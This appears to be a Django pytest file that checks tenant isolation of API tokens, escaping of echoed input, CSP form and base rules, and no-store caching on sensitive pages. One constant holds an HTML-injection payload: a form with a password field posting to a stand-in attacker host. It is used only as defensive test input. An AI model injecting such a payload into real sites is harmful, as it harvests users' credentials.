"""Isolation and injection findings of the hardening probe (issue 8)."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse

from soms.tenancy.models import ApiToken
from soms.tenancy.services import api_token_create

pytestmark = pytest.mark.django_db


def _bearer(raw: str) -> Client:
    return Client(headers={"Authorization": f"Bearer {raw}"})


def test_a_token_bound_to_one_organisation_cannot_revoke_the_users_token_of_another(world):
    # dana is a member of both A and B.
    token_a, raw_a = api_token_create(user=world.dana, organisation=world.org_a, name="a")
    token_b, raw_b = api_token_create(user=world.dana, organisation=world.org_b, name="b")
    client_a = _bearer(raw_a)
    missing = client_a.delete("/api/v1/tokens/987654321")
    other = client_a.delete(f"/api/v1/tokens/{token_b.pk}")
    assert other.status_code == 404
    assert other.json() == missing.json()
    assert ApiToken.objects.get(pk=token_b.pk).revoked_at is None
    assert [t["id"] for t in client_a.get("/api/v1/tokens").json()] == [token_a.pk]
    assert _bearer(raw_b).get("/api/v1/me").status_code == 200


def test_the_token_page_cannot_revoke_a_token_of_another_current_organisation(world):
    token_b, _ = api_token_create(user=world.dana, organisation=world.org_b, name="b")
    client = world.client_for(world.dana, world.org_a)
    assert client.post(reverse("api-token-revoke", args=[token_b.pk])).status_code == 404
    assert ApiToken.objects.get(pk=token_b.pk).revoked_at is None


INJECTED = "<form action=//evil.example/x><input name=password></form>"


def test_a_bad_parameter_page_escapes_what_it_echoes(world, builtin):
    from soms.frameworks.services.authoring import framework_create

    version = framework_create(
        organisation=world.org_a,
        code="esc",
        name="Esc",
        description="",
        kind="skills",
        label="1",
        actor=world.alice,
    )
    client = world.client_for(world.alice, world.org_a)
    url = reverse("framework-item-new", args=[version.pk, "statements"])
    response = client.get(url, {"element": INJECTED})
    assert response.status_code == 400
    body = response.content.decode()
    assert "<form action=//evil" not in body
    assert "&lt;form action=//evil" in body


def test_the_organisation_switch_answers_an_escaped_page(world):
    client = world.client_for(world.alice)
    response = client.post(reverse("switch-organisation"), {"organisation": INJECTED})
    assert response.status_code == 400
    assert INJECTED not in response.content.decode()


def test_the_content_security_policy_keeps_forms_and_base_here(world):
    response = world.client_for(world.alice).get("/")
    policy = response.headers["Content-Security-Policy"]
    assert "form-action 'self'" in policy
    assert "base-uri 'self'" in policy


@pytest.mark.parametrize("path", ["/account/tokens/", "/organisation/audit-log/", "/"])
def test_signed_in_pages_are_never_stored(world, path):
    response = world.client_for(world.alice, world.org_a).get(path)
    assert response.status_code == 200
    directives = {d.strip() for d in response.headers["Cache-Control"].split(",")}
    assert {"private", "no-store"} <= directives


@pytest.mark.parametrize("path", ["/api/v1/tokens", "/api/v1/audit-log", "/api/v1/me"])
def test_api_answers_with_secrets_or_personal_data_are_never_stored(world, path):
    _, raw = api_token_create(user=world.alice, organisation=world.org_a, name="t")
    response = _bearer(raw).get(path)
    assert response.status_code == 200
    directives = {d.strip() for d in response.headers["Cache-Control"].split(",")}
    assert {"private", "no-store"} <= directives
    created = world.client_for(world.alice, world.org_a).post(
        "/api/v1/tokens", {"name": "new"}, content_type="application/json"
    )
    assert "no-store" in created.headers["Cache-Control"]


def test_no_page_builds_a_bad_request_from_raw_text():
    """HttpResponseBadRequest(text) is served as HTML with the text unescaped; pages use
    soms.tenancy.pages.bad_request, which renders an escaped template."""
    from pathlib import Path

    import soms

    offenders = [
        str(path)
        for path in Path(soms.__file__).parent.rglob("*.py")
        if "HttpResponseBadRequest(" in path.read_text(encoding="utf-8")
    ]
    assert offenders == []
